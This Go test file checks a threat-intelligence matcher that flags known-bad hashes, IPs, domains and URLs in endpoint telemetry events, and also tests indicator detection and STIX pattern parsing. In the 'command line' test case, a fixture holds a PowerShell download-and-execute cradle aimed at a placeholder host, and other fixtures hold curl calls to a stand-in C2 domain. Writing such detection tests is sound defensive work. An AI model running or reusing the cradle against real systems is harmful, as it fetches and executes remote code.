package intel

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/quarry-sec/quarry/telemetry"
)

func testMatcher(t *testing.T) *Matcher {
	t.Helper()
	b := NewBuilder()
	add := func(typ Type, v string, mod func(*Indicator)) {
		n, err := Normalize(typ, v)
		if err != nil {
			t.Fatal(err)
		}
		in := Indicator{Type: typ, Value: n, Source: "feed", Confidence: 80}
		if mod != nil {
			mod(&in)
		}
		b.Add(in)
	}
	add(SHA256, "AEC070645FE53EE3B3763059376134F058CC337247C978ADD178B6CCDFB0019F", func(in *Indicator) { in.Malware = []string{"S0154"} })
	add(MD5, "79054025255fb1a26e4bc422aef54eb4", nil)
	add(SHA1, "da39a3ee5e6b4b0d3255bfef95601890afd80709", nil)
	add(IPv4, "192.0.2.44", nil)
	add(IPv6, "2001:db8::dead:beef", nil)
	add(CIDR, "198.51.100.0/24", nil)
	add(CIDR, "2001:db8:ff::/48", nil)
	add(Domain, "evil-c2.example", func(in *Indicator) { in.Groups = []string{"G0016"}; in.Techniques = []string{"T1071.001"} })
	add(URL, "https://cdn.example.net/a/b.hta", nil)
	add(Domain, "expired.example", func(in *Indicator) { in.ValidUntil = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC) })
	m := b.Build()
	m.Now = func() time.Time { return time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC) }
	return m
}

func got(ms []Match) []string {
	var out []string
	for _, m := range ms {
		out = append(out, m.Field+" "+string(m.Type)+" "+m.Indicator+" = "+m.Value)
	}
	slices.Sort(out)
	return out
}

func TestMatchEvents(t *testing.T) {
	m := testMatcher(t)
	ev := func(mod func(*telemetry.Event), fields map[string]string) *telemetry.Event {
		e := telemetry.NewEvent(telemetry.KindOther, telemetry.SourceSysmon)
		e.Fields = telemetry.FieldsFromMap(fields)
		if mod != nil {
			mod(&e)
		}
		return &e
	}
	cases := []struct {
		name string
		ev   *telemetry.Event
		want []string
	}{
		{"process hashes", ev(func(e *telemetry.Event) {
			e.Kind = telemetry.KindExec
			e.Hashes = "SHA1=0000000000000000000000000000000000000000,MD5=79054025255FB1A26E4BC422AEF54EB4,SHA256=aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f,IMPHASH=00000000000000000000000000000000"
		}, nil), []string{
			"Hashes md5 79054025255fb1a26e4bc422aef54eb4 = 79054025255FB1A26E4BC422AEF54EB4",
			"Hashes sha256 aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f = aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f",
		}},
		{"file event hashes", ev(nil, map[string]string{"TargetFilename": `C:\x.dll`, "Hashes": "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709"}),
			[]string{"Hashes sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709 = DA39A3EE5E6B4B0D3255BFEF95601890AFD80709"}},
		{"network connection", ev(nil, map[string]string{"DestinationIp": "198.51.100.9", "SourceIp": "192.0.2.44", "DestinationHostname": "WWW.Evil-C2.example"}), []string{
			"DestinationHostname domain evil-c2.example = WWW.Evil-C2.example",
			"DestinationIp cidr 198.51.100.0/24 = 198.51.100.9",
			"SourceIp ipv4 192.0.2.44 = 192.0.2.44",
		}},
		{"ipv6", ev(nil, map[string]string{"DestinationIp": "2001:db8:ff:1::5", "SourceIp": "2001:DB8::DEAD:BEEF"}), []string{
			"DestinationIp cidr 2001:db8:ff::/48 = 2001:db8:ff:1::5",
			"SourceIp ipv6 2001:db8::dead:beef = 2001:DB8::DEAD:BEEF",
		}},
		{"dns", ev(nil, map[string]string{"QueryName": "a.b.evil-c2.example", "QueryResults": "type:  5 cdn.evil-c2.example;::ffff:198.51.100.77;10.0.0.1;"}), []string{
			"QueryName domain evil-c2.example = a.b.evil-c2.example",
			"QueryResults cidr 198.51.100.0/24 = ::ffff:198.51.100.77",
			"QueryResults domain evil-c2.example = cdn.evil-c2.example",
		}},
		{"command line", ev(func(e *telemetry.Event) {
			e.Kind = telemetry.KindExec
			e.Cmdline = `powershell -c "IEX (New-Object Net.WebClient).DownloadString('HTTPS://CDN.Example.NET:443/a/b.hta#x'); ping 192.0.2.44; nslookup x.evil-c2.example"`
		}, nil), []string{
			"cmdline domain evil-c2.example = x.evil-c2.example",
			"cmdline ipv4 192.0.2.44 = 192.0.2.44",
			"cmdline url https://cdn.example.net/a/b.hta = HTTPS://CDN.Example.NET:443/a/b.hta#x",
		}},
		{"script block", ev(nil, map[string]string{"ScriptBlockText": "$u='http://evil-c2.example/x'; certutil -hashfile x 79054025255fb1a26e4bc422aef54eb4"}), []string{
			"ScriptBlockText domain evil-c2.example = evil-c2.example",
			"ScriptBlockText md5 79054025255fb1a26e4bc422aef54eb4 = 79054025255fb1a26e4bc422aef54eb4",
		}},
		{"no match", ev(func(e *telemetry.Event) {
			e.Cmdline = `C:\Windows\system32\cmd.exe /c notevil-c2.example 198.51.101.1 evil-c2.examples.org`
		}, map[string]string{"DestinationIp": "198.51.101.1", "QueryName": "evil-c2.example.org"}), nil},
		{"expired", ev(nil, map[string]string{"QueryName": "expired.example"}), nil},
	}
	for _, c := range cases {
		if g := got(m.Match(c.ev, nil)); !slices.Equal(g, c.want) {
			t.Errorf("%s:\n got %q\nwant %q", c.name, g, c.want)
		}
	}
	// The same indicator twice in one field is one match; links come along.
	e := ev(func(e *telemetry.Event) { e.Cmdline = "curl evil-c2.example; curl evil-c2.example" }, nil)
	ms := m.Match(e, nil)
	if len(ms) != 1 || !slices.Equal(ms[0].Groups, []string{"G0016"}) || ms[0].Confidence != 80 || ms[0].Source != "feed" {
		t.Errorf("matches %+v", ms)
	}
}

func TestMatchSeveralFeeds(t *testing.T) {
	b := NewBuilder()
	b.Add(Indicator{Type: Domain, Value: "evil.example", Source: "a", Confidence: 10})
	b.Add(Indicator{Type: Domain, Value: "evil.example", Source: "b", Confidence: 90})
	m := b.Build()
	e := telemetry.NewEvent(telemetry.KindOther, telemetry.SourceSysmon)
	e.Fields.Set("QueryName", "evil.example")
	var srcs []string
	for _, mt := range m.Match(&e, nil) {
		srcs = append(srcs, mt.Source)
	}
	slices.Sort(srcs)
	if !slices.Equal(srcs, []string{"a", "b"}) {
		t.Fatalf("sources %q, want both feeds", srcs)
	}
}

func TestDetect(t *testing.T) {
	cases := map[string]string{
		"44D88612FEA8A8F36DE82E1F333F6D3F": "md5 44d88612fea8a8f36de82e1f333f6d3f",
		"10.0.0.1":                         "ipv4 10.0.0.1",
		"::ffff:10.0.0.1":                  "ipv4 10.0.0.1",
		"10.0.0.0/8":                       "cidr 10.0.0.0/8",
		"10.1.2.3/8":                       "cidr 10.0.0.0/8",
		"Example.COM.":                     "domain example.com",
		"evil[.]example":                   "domain evil.example",
		"hxxps://evil[.]example/x?y=1#z":   "url https://evil.example/x?y=1",
		"evil.example/path":                "url http://evil.example/path",
		"http://[2001:db8::1]:8080/":       "url http://[2001:db8::1]:8080/",
	}
	for in, want := range cases {
		typ, v, err := Detect(in)
		if err != nil || string(typ)+" "+v != want {
			t.Errorf("Detect(%q) = %s %s, %v; want %s", in, typ, v, err, want)
		}
	}
	for _, bad := range []string{"", "hello", "1.2.3", "cmd.123", "-a.example", "a..example", strings.Repeat("f", 63)} {
		if typ, v, err := Detect(bad); err == nil {
			t.Errorf("Detect(%q) = %s %s, want an error", bad, typ, v)
		}
	}
}

func TestParsePattern(t *testing.T) {
	ok := map[string]int{
		"[file:hashes.'SHA-256' = 'aa']":                                   1,
		"[file:hashes.MD5 = 'aa' OR file:hashes.'SHA-1' = 'bb']":           2,
		"([domain-name:value = 'a.example']) OR [url:value = 'http://x/']": 2,
		"[ipv4-addr:value ISSUBSET '10.0.0.0/8']":                          1,
		`[url:value = 'http://x.example/it\'s']`:                           1,
	}
	for p, n := range ok {
		cs, err := ParsePattern(p)
		if err != nil || len(cs) != n {
			t.Errorf("ParsePattern(%q) = %v, %v; want %d comparisons", p, cs, err, n)
		}
	}
	cs, _ := ParsePattern(`[url:value = 'http://x.example/it\'s']`)
	if cs[0].Value != "http://x.example/it's" {
		t.Errorf("escaped quote read as %q", cs[0].Value)
	}
	unsupported := []string{
		"[file:name = 'a' AND file:size > 3]",
		"[domain-name:value = 'a.example'] AND [url:value = 'http://x/']",
		"[domain-name:value = 'a.example'] WITHIN 5 SECONDS",
		"[domain-name:value != 'a.example']",
		"[domain-name:value LIKE 'a%']",
		"[domain-name:value IN ('a.example', 'b.example')]",
	}
	for _, p := range unsupported {
		if _, err := ParsePattern(p); err == nil || !strings.Contains(err.Error(), ErrUnsupportedPattern.Error()) {
			t.Errorf("ParsePattern(%q): error %v, want unsupported", p, err)
		}
	}
	for _, p := range []string{"", "[", "[domain-name:value = ]", "[domain-name:value = 'a'", "domain-name:value = 'a'", "[value = 'a']", "[a:b = 'c'] OR"} {
		if _, err := ParsePattern(p); err == nil {
			t.Errorf("ParsePattern(%q) succeeded", p)
		}
	}
}
